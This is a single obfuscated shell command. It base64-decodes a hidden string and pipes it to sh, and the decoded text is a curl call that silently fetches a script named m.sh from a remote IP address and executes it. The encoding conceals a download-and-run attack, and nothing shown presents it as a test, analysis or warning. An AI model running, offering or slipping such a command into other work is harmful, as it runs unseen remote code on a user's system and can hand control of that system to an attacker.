echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjQvbS5zaCB8IHNo | base64 -d | sh
